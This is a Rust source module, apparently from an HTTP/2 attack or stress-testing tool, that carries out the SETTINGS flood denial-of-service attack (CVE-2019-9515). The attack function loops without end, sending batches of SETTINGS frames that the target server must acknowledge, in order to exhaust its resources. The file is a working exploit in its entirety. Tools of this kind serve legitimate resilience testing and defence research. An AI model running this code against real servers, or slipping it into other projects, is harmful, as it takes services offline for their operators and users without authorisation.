//! SETTINGS flood: each one has to be acknowledged (CVE-2019-9515).

use super::frames::{self, INITIAL_WINDOW_SIZE};
use super::ground::Ground;
use super::http2::{BATCH, on_connection};

pub(super) async fn attack(ground: &Ground<'_>) {
    on_connection(ground, &[], async |connection| {
        loop {
            let count = connection.leave(BATCH).await?;
            for _ in 0..count {
                frames::put_settings(&mut connection.output, &[(INITIAL_WINDOW_SIZE, 65_535)]);
            }
            connection.send(count).await?;
        }
    })
    .await;
}
